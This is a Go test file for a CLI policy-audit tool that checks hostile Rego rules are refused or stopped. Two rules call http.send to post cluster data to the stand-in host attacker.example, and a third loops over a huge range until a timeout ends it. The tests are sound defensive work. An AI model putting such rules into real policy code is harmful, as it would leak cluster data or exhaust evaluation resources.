package main

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fleetaudit/fleetaudit/internal/facts"
	"github.com/fleetaudit/fleetaudit/internal/policy"
	"github.com/fleetaudit/fleetaudit/internal/testkit"
)

// TestHostileRuleRefusedAtLoad: a rule or a Rego test that calls http.send stops audit and
// rules test before anything runs (exit 2), naming the file, the line and why.
func TestHostileRuleRefusedAtLoad(t *testing.T) {
	dir := t.TempDir()
	rule := filepath.Join(dir, "rules", "exfil.rego")
	write(t, rule, testkit.HostileRule("EVIL-1", "exfil", `	http.send({"method": "POST", "url": "https://attacker.example/", "body": input.cluster})`))
	want := rule + ":10: rego_type_error: http.send is not allowed in fleetaudit rules: rules must not reach the network"
	if code, out, errOut := runCLI(t, "audit", "--demo", "--rules", filepath.Dir(rule)); code != exitUsage || out != "" || !strings.Contains(errOut, want) {
		t.Errorf("audit: exit %d, stdout %q, stderr %q, want %q", code, out, errOut, want)
	}
	test := filepath.Join(dir, "tests", "exfil_test.rego")
	write(t, test, "package exfil_test\n\ntest_send if {\n\thttp.send({\"method\": \"GET\", \"url\": \"https://attacker.example/\"})\n}\n")
	if code, _, errOut := runCLI(t, "rules", "test", filepath.Dir(test)); code != exitUsage || !strings.Contains(errOut, test+":4: rego_type_error: http.send is not allowed") {
		t.Errorf("rules test: exit %d, stderr %q", code, errOut)
	}
}

// TestHostileRuleTimesOut: a rule that loops on one cluster ends at --eval-timeout; that
// cluster is incomplete (exit 3) with an error naming the rule, and still has the other rules'
// findings; the other clusters are audited as usual; the gate denies that cluster.
func TestHostileRuleTimesOut(t *testing.T) {
	rules := filepath.Join(t.TempDir(), "loop.rego")
	write(t, rules, testkit.HostileRule("LOOP-1", "loop", `	input.cluster.name == "prod-eu-west"
	count([x | some x in numbers.range(1, 100000000)]) > 0`))
	start := time.Now()
	code, out, errOut := runCLI(t, "audit", "--demo", "--rules", filepath.Dir(rules), "--eval-timeout", "1s", "-o", "json")
	if took := time.Since(start); took > 6*time.Second {
		t.Errorf("audit took %s with --eval-timeout 1s", took)
	}
	if code != exitIncomplete {
		t.Fatalf("exit %d, want %d\n%s", code, exitIncomplete, errOut)
	}
	want := "rule LOOP-1 (" + rules + ":9) did not finish within 1s on cluster prod-eu-west; raise --eval-timeout or fix the rule"
	for _, c := range decodeAudit(t, out).Clusters {
		switch {
		case c.Name != "prod-eu-west" && (c.Status != facts.StatusOK || len(c.Findings) == 0):
			t.Errorf("%s: %s %q with %d findings", c.Name, c.Status, c.Problem, len(c.Findings))
		case c.Name == "prod-eu-west" && (c.Status != facts.StatusPartial || c.Problem != "rules: "+want ||
			len(c.RuleErrors) != 1 || c.RuleErrors[0].Reason != policy.ReasonTimeout || len(c.Findings) < 10):
			t.Errorf("%s: %s %q, rule errors %+v, %d findings; want partial: %q", c.Name, c.Status, c.Problem, c.RuleErrors, len(c.Findings), want)
		}
	}
	code, out, errOut = runCLI(t, "gate", "--profile", "../../examples/profiles/platform-1.34.yaml", "--demo",
		"--rules", filepath.Dir(rules), "--eval-timeout", "1s", "-o", "json")
	var res policy.GateReport
	if err := json.Unmarshal([]byte(out), &res); err != nil || code != exitFindings {
		t.Fatalf("gate: exit %d, %v\n%s", code, err, errOut)
	}
	for _, d := range res.Decisions {
		timedOut := strings.Join(d.Reasons, "\n") == want+" (fail closed)"
		if d.Allowed || timedOut != (d.Cluster == "prod-eu-west") {
			t.Errorf("gate %s: allowed %v, reasons %q", d.Cluster, d.Allowed, d.Reasons)
		}
	}
}
